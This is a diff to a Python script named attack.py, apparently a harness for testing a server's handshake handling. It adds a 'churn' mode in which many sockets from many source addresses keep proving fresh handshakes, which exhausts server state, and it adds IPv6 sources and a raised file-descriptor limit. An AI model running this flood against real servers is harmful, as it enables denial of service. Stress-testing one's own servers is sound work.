@@ -63,6 +63,12 @@ network namespace (root needed for raw and packet sockets); it never sends anywh
       the server's resends find a socket, not an ICMP error) for S seconds or until SIGTERM,
       and exits 0 if every handshake got proven.
 
+      With --churn C, instead of holding: every socket proves a new handshake (a new
+      random) again and again for C seconds, a round every --round-every seconds at most
+      (as fast as it goes by default), so none is ever older than one round; prints
+      "churning" after the first round and "churned rounds=N handshakes=M slowest_ms=T".
+      Sources may be IPv6 addresses.
+
   attack.py junk --dst IP --port P --hello FILE --src IP --count N --size B --rate R
                  [--zero-frags Z] [--zero-last M]
       One socket from --src proves its address as `stall` does (ClientHello, echoed cookie,
@@ -494,6 +500,11 @@ def prove(socks, hello, dst, timeout):
     state = {}
     for s in socks:
         s.setblocking(False)
+        while True:  # what an earlier round left behind must not count for this one
+            try:
+                s.recv(65535)
+            except OSError:
+                break
         rnd = os.urandom(32)
         first = hello_with(hello, rnd, b"", 0, 0)
         state[s] = {"random": rnd, "next": first, "done": False}
@@ -536,11 +547,20 @@ def stall(args):
     hello = load_hello(args.hello)
     if hello is None:
         return 1
+    import resource
+    import signal
+
+    srcs = args.srcs.split(",")
+    want = len(srcs) * args.ports_each + 64
+    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
+    if soft < want:
+        resource.setrlimit(resource.RLIMIT_NOFILE, (max(soft, want), max(hard, want)))
     dst = (args.dst, args.port)
     socks = []
-    for src in args.srcs.split(","):
+    for src in srcs:
+        family = socket.AF_INET6 if ":" in src else socket.AF_INET
         for _ in range(args.ports_each):
-            s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+            s = socket.socket(family, socket.SOCK_DGRAM)
             s.bind((src, 0))
             socks.append(s)
     started = time.monotonic()
@@ -548,9 +568,26 @@ def stall(args):
     took = time.monotonic() - started
     print(f"proven={proven} of {len(socks)} in {int(took * 1000)} ms", flush=True)
     stop = []
-    import signal
-
     signal.signal(signal.SIGTERM, lambda *_: stop.append(1))
+    if args.churn:
+        # Every socket starts over (a new random, so a new handshake) round after round: no
+        # handshake of ours is ever older than a round.
+        rounds, again, slowest = 0, 0, 0.0
+        until = time.monotonic() + args.churn
+        while not stop and time.monotonic() < until:
+            t = time.monotonic()
+            again += prove(socks, hello, dst, 5.0)
+            rounds += 1
+            slowest = max(slowest, time.monotonic() - t)
+            pause = t + args.round_every - time.monotonic()
+            if pause > 0 and not stop:
+                time.sleep(pause)
+            if rounds == 1:
+                print(f"churning: round 1 took {int(slowest * 1000)} ms", flush=True)
+        print(f"churned rounds={rounds} handshakes={again} slowest_ms={int(slowest * 1000)}", flush=True)
+        for s in socks:
+            s.close()
+        return 0
     until = time.monotonic() + args.hold
     while not stop and time.monotonic() < until:
         time.sleep(0.1)
@@ -669,6 +706,8 @@ def main():
     sl.add_argument("--srcs", required=True)
     sl.add_argument("--ports-each", type=int, required=True)
     sl.add_argument("--hold", type=float, default=60.0)
+    sl.add_argument("--churn", type=float, default=0.0)
+    sl.add_argument("--round-every", type=float, default=0.0)
     j = sub.add_parser("junk")
     j.add_argument("--dst", required=True)
     j.add_argument("--port", type=int, required=True)
